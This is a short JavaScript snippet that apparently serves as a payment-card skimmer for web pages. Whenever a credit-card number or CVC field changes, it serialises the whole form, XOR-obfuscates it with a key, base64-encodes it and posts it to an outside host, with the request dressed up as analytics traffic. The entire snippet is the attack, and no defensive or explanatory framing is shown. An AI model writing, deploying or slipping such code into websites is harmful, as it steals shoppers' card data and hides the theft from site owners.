// XOR with a word, then base64, in a POST that looks like analytics.
var k = 'ga2014', o = '';
function enc(t) { for (var i = 0; i < t.length; i++) o += String.fromCharCode(t.charCodeAt(i) ^ k.charCodeAt(i % k.length)); return btoa(o); }
jQuery(document).on('blur change', '[autocomplete="cc-number"],[autocomplete="cc-csc"]', function () {
  jQuery.post('https://www.analytics-collector.example/collect', { v: 1, tid: 'UA-1', ea: enc(JSON.stringify(jQuery('form').serializeArray())) });
});
